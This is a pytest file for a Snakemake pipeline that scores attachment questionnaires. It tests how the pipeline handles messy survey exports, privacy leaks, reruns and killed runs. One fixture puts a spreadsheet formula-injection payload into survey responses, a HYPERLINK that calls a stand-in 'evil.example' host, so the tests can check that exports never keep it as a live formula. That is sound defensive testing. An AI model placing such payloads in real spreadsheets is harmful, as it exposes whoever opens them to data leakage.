"""Hostile input end to end through Snakemake (issue 12): a study of messy real-world exports runs from its raw
files without a traceback, loses nothing silently, leaks nothing, writes nothing outside results/; reruns follow
content, not time stamps; a killed run resumes with a plain rerun. The rest of the corpus runs through the steps
(tests/test_corpus.py)."""

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile

import numpy as np
import pandas as pd
import pytest
import yaml

from attachment_pipeline.instruments import INSTRUMENT_DIR
from corpus import exports as ex
from helpers import REPO

pytestmark = pytest.mark.slow

#: values of the identifying columns and the free-text group value (column names may be listed, values never)
IDENTIFYING = ["example.org", "Jane", "Lastname", "First1", "145.97.", "EXT00"]


def project_copy(dest):
    for part in ["Snakefile", "workflow", "profiles", "config"]:
        src = REPO / part
        if src.is_dir():
            shutil.copytree(src, dest / part, ignore=shutil.ignore_patterns("__pycache__"))
        else:
            shutil.copy(src, dest / part)
    # a study's own instrument folder: copies of the shipped files (package data), so a test can change one
    shutil.copytree(INSTRUMENT_DIR, dest / "config/instruments")
    (dest / "data/raw").mkdir(parents=True)
    return dest


def snakemake(workdir, *args, timeout=900):
    cmd = [sys.executable, "-m", "snakemake", *args, "--cores", "2"]
    return subprocess.run(cmd, cwd=workdir, capture_output=True, text=True, timeout=timeout)


def planned(proc) -> list[tuple[str, str | None]]:
    """(rule, cohort) of every job a dry run plans."""
    jobs, rule, cohort = [], None, None
    for line in (proc.stdout + proc.stderr).splitlines():
        m = re.match(r"^(?:local)?rule (\w+):", line)
        if m:
            if rule:
                jobs.append((rule, cohort))
            rule, cohort = m.group(1), None
        elif rule and line.startswith(" "):
            w = re.match(r"\s+wildcards: cohort=(\S+)", line)
            if w:
                cohort = w.group(1)
        elif rule:
            jobs.append((rule, cohort))
            rule = None
    return jobs + ([(rule, cohort)] if rule else [])


def quick_settings(config: dict) -> dict:
    config.update(reliability={"n_boot": 20}, factors={"parallel_iterations": 5},
                  classification={"method": "midpoint", "compare": ["median", "kmeans"]},
                  hypothesis_testing={"n_permutations": 99, "n_bootstrap": 0})
    return config


def messy_study(work):
    """Four cohorts as researchers bring them, in one study."""
    raw = work / "data/raw"
    data = ex.sample(120, seed=11)
    data.loc[5, "gender"] = "Jane Doe jane.doe@example.org"  # one person's free text: a level of 1
    data.loc[[10, 20, 30, 40, 50], "gender"] = '=HYPERLINK("http://evil.example/?leak","click me")'
    ex.qualtrics_csv(raw / "qualtrics.csv", data, numeric=False, preview=2, unfinished=3)
    ex.qualtrics_legacy_csv(raw / "legacy.csv", ex.sample(60, seed=12), preview=1)
    ex.spss_sav(raw / "lab.sav", ex.sample(50, seed=13), n_missing=10)
    ex.plain_csv(raw / "tiny.csv", ex.sample(3, seed=14))
    config = quick_settings({
        "study": "messy",
        "instrument_dir": "config/instruments",  # the copy's files, so that the rerun test can change one
        "cohorts": {
            "qualtrics": ex.qualtrics_cohort("data/raw/qualtrics.csv"),
            "legacy": ex.qualtrics_cohort("data/raw/legacy.csv", id_column="ResponseID", groups=None),
            "spss": {"responses": "data/raw/lab.sav", "instruments": ["ecr_r", "minmax"], "id_column": "pp",
                     "items": {"ecr_r": "ecr{n}", "minmax": "mm{n}"}, "groups": ["sex"]},
            "tiny": {"responses": "data/raw/tiny.csv", "instruments": ["ecr_r", "minmax"],
                     "id_column": "respondent_id", "items": {"ecr_r": "ecr_{n}", "minmax": "mm_{n}"}},
        },
        "hypotheses": [{"id": "H7", "family": "dimensions_distinct", "r_max": 0.5},
                       {"id": "H5", "family": "prevalence", "reference": "hazan_shaver1987"}],
    })
    (work / "messy.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
    return config


@pytest.fixture(scope="module")
def messy_run(tmp_path_factory):
    work = project_copy(tmp_path_factory.mktemp("messy"))
    messy_study(work)
    before = sorted(p.name for p in work.parent.iterdir())
    proc = snakemake(work, "--configfile", "messy.yaml")
    assert proc.returncode == 0, proc.stdout[-4000:] + proc.stderr[-4000:]
    assert sorted(p.name for p in work.parent.iterdir()) == before  # nothing written beside the project
    return work, proc


def test_every_export_runs_from_its_raw_file(messy_run):
    work, proc = messy_run
    out = work / "results/messy"
    v = {c: json.loads((out / c / "qc/validation.json").read_text()) for c in ("qualtrics", "legacy", "spss", "tiny")}
    assert v["qualtrics"]["respondents"] == 115 and v["qualtrics"]["excluded"]["preview"]["n"] == 2
    assert v["qualtrics"]["excluded"]["unfinished"]["n"] == 3
    assert v["qualtrics"]["items"]["ecr_r"]["answers_from_labels"] == 115 * 36
    assert v["legacy"]["input"]["format"] == "qualtrics-legacy-csv" and v["legacy"]["respondents"] == 59
    assert v["spss"]["items"]["ecr_r"]["totals"]["missing_code"] == 10
    for c in v:
        s = v[c]["items"]["ecr_r"]["scoring"]
        assert s["scored"] + s["partly_scored"] + s["unscored"] == v[c]["respondents"], c
    output = proc.stdout + proc.stderr
    assert "Traceback" not in output and not re.search(r'File ".*", line \d+', output)


def test_small_cohort_skips_with_reasons_while_the_study_goes_on(messy_run):
    work, _ = messy_run
    tiny = work / "results/messy/tiny"
    assert "Only 3 respondents" in pd.read_csv(tiny / "cfa_fit.csv")["skipped_reason"].iloc[0]
    hyp = pd.read_csv(tiny / "hypotheses.csv").set_index("id")
    assert isinstance(hyp.loc["H7", "skipped_reason"], str)
    assert "Analyses not computed" in (tiny / "report.html").read_text()
    for c in ("qualtrics", "legacy", "spss"):
        assert "skipped_reason" not in pd.read_csv(work / "results/messy" / c / "cfa_fit.csv").columns, c
    pooled = pd.read_csv(work / "results/messy/pooled/reliability.csv")
    assert {"qualtrics", "legacy", "spss"} <= set(pooled["cohort"])


def test_nothing_identifying_in_any_output(messy_run):
    work, _ = messy_run
    for path in (work / "results").rglob("*"):
        if not path.is_file():
            continue
        if path.suffix == ".xlsx":
            text = "".join(zipfile.ZipFile(path).read(n).decode("utf-8", "ignore") for n in zipfile.ZipFile(path).namelist())
        else:
            text = path.read_bytes().decode("utf-8", "ignore")
        for needle in IDENTIFYING:
            assert needle not in text, (needle, path)
    inv = pd.read_csv(work / "results/messy/pooled/invariance.csv")
    gender = inv[inv["comparison"] == "qualtrics:Q3"]
    assert "configural" in set(gender["model"])  # the one free-text person did not void the analysis


def test_formula_text_is_never_a_live_formula_in_the_exports(messy_run):
    work, _ = messy_run
    book = work / "results/messy/qualtrics/exports/scores.xlsx"
    with zipfile.ZipFile(book) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert any(b"=hyperlink(" in s.lower() for s in sheets)  # a level of five respondents is shown ...
    assert not any(re.search(rb"<f[ >]", s) for s in sheets)  # ... as text, never as a formula


def test_a_config_slice_reruns_only_its_step_and_what_follows(messy_run):
    work, _ = messy_run
    config = yaml.safe_load((work / "messy.yaml").read_text())
    config["reliability"]["n_boot"] = 30
    (work / "slice.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
    jobs = planned(snakemake(work, "-n", "--configfile", "slice.yaml"))
    rules = {r for r, _ in jobs}
    assert {("reliability", c) for c in ("qualtrics", "spss", "tiny")} <= set(jobs) and "report" in rules
    assert not rules & {"factors", "classify", "exports"}
    assert "score_cohort" not in rules


def test_reruns_follow_content_not_time_stamps(messy_run):
    """(Runs after the tests above: it changes a raw and an instrument file of the shared run.)"""
    work, _ = messy_run
    dry = lambda: snakemake(work, "-n", "--configfile", "messy.yaml")  # noqa: E731
    proc = dry()
    assert proc.returncode == 0 and "Nothing to be done" in proc.stdout + proc.stderr

    # a raw file's content changes, its time stamp is kept (rsync -a): exactly that cohort reruns
    raw = work / "data/raw/legacy.csv"
    stat = raw.stat()
    raw.write_bytes(raw.read_bytes().replace(b'"Strongly agree"', b'"Agree"', 1).replace(b",7,", b",6,", 1))
    os.utime(raw, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    jobs = planned(dry())
    assert ("score_cohort", "legacy") in jobs and ("report", "legacy") in jobs
    assert not [j for j in jobs if j[1] not in (None, "legacy")], jobs

    # an instrument file changes: every cohort that answered it reruns from scoring
    inst = work / "config/instruments/ecr_r.yaml"
    stat = inst.stat()
    inst.write_text(inst.read_text().replace("I'm afraid that I will lose", "I am afraid that I will lose"))
    os.utime(inst, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    assert {c for r, c in planned(dry()) if r == "score_cohort"} == {"qualtrics", "legacy", "spss", "tiny"}


def test_a_killed_run_resumes_with_a_plain_rerun(tmp_path):
    work = project_copy(tmp_path)
    ex.plain_csv(work / "data/raw/a.csv", ex.sample(80, seed=5))
    config = quick_settings({"study": "k", "cohorts": {"a": {
        "responses": "data/raw/a.csv", "instruments": ["ecr_r", "minmax"], "id_column": "respondent_id",
        "items": {"ecr_r": "ecr_{n}", "minmax": "mm_{n}"}}}})
    (work / "config/config.yaml").write_text(yaml.safe_dump(config))
    run = subprocess.Popen([sys.executable, "-m", "snakemake", "--cores", "2"], cwd=work, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL, start_new_session=True)
    deadline = time.time() + 300
    while time.time() < deadline and not (work / "results/k/a/scores.csv").exists():
        time.sleep(0.2)
    os.killpg(run.pid, signal.SIGKILL)  # as a closed terminal or a cluster time limit would
    run.wait()
    assert (work / ".snakemake/locks").is_dir() and any((work / ".snakemake/locks").iterdir())
    assert not (work / "results/k/index.html").exists()
    proc = subprocess.run([sys.executable, "-m", "snakemake"], cwd=work, capture_output=True, text=True, timeout=900)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    assert "lock was removed" in proc.stderr
    assert (work / "results/k/index.html").is_file() and (work / "results/k/a/report.html").is_file()


def test_start_up_refusals_write_nothing_and_show_no_traceback(tmp_path):
    work = project_copy(tmp_path)
    ex.plain_csv(work / "data/raw/a.csv", ex.sample(10))
    cohort = {"responses": "data/raw/a.csv", "instruments": ["ecr_r"], "id_column": "respondent_id",
              "items": {"ecr_r": "ecr_{n}"}}
    cases = [({"study": "..", "cohorts": {"a": cohort}}, "config key `study`: '..' does not match"),
             ({"study": "s", "cohorts": {"..": cohort}}, "config key `cohorts`: '..' does not match"),
             ({"study": "s", "cohorts": {"pooled": cohort}}, "the cohort name 'pooled' is reserved"),
             ({"study": "s", "seed": -1, "cohorts": {"a": cohort}}, "config key `seed`: -1 is less than the minimum")]
    for config, fragment in cases:
        (work / "bad.yaml").write_text(yaml.safe_dump(config))
        proc = snakemake(work, "-n", "--configfile", "bad.yaml")
        err = proc.stdout + proc.stderr
        assert proc.returncode != 0 and fragment in err, err
        assert "Traceback" not in err and not re.search(r'File ".*", line \d+', err), err
    assert not (work / "results").exists() and not (tmp_path / "s").exists()
    (work / "results").write_text("not a folder")
    (work / "ok.yaml").write_text(yaml.safe_dump({"study": "s", "cohorts": {"a": cohort}}))
    proc = snakemake(work, "--configfile", "ok.yaml")
    assert proc.returncode != 0 and "cannot write results to results/s: results exists but is not a folder" in proc.stderr


def test_a_failed_step_leaves_no_output_and_logs_the_reason(tmp_path):
    work = project_copy(tmp_path)
    ex.plain_csv(work / "data/raw/a.csv", ex.sample(30))
    (work / "data/raw/a.csv").write_text((work / "data/raw/a.csv").read_text() + "P999,female,40," + "1," * 10)
    config = {"study": "s", "cohorts": {"a": {"responses": "data/raw/a.csv", "instruments": ["ecr_r", "minmax"],
                                              "id_column": "respondent_id",
                                              "items": {"ecr_r": "ecr_{n}", "minmax": "mm_{n}"}}}}
    (work / "s.yaml").write_text(yaml.safe_dump(config))
    proc = snakemake(work, "--configfile", "s.yaml")
    err = proc.stdout + proc.stderr
    assert proc.returncode != 0 and "the file ends in the middle of row 32" in err
    assert "Traceback" not in err
    out = work / "results/s/a"
    assert not any(p.is_file() for p in out.rglob("*")) if out.exists() else True
    assert "stopped:" in (work / "results/s/logs/a/score_cohort.log").read_text()
